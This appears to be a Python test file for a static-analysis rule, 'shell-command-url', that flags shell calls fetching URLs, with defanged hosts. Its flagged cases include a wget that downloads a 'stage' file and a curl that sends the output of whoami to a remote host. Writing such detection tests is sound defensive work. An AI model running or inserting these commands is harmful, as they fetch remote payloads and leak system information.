# Test for shell-command-url (defanged: example.invalid).
import os
import subprocess

host = "example.invalid"
# ruleid: shell-command-url
os.system("curl -s http://ifconfig.invalid/ip")
# ruleid: shell-command-url
subprocess.call(f"wget -q https://{host}/stage -O stage", shell=True)
# ruleid: shell-command-url
out = os.popen('curl "https://example.invalid/$(whoami)"').read()

# ok: shell-command-url
subprocess.check_call(["git", "clone", "https://example.invalid/repo.git"])
# ok: shell-command-url
os.system("xdg-open https://example.invalid/docs")
# ok: shell-command-url
subprocess.run(["ls", "-l"])
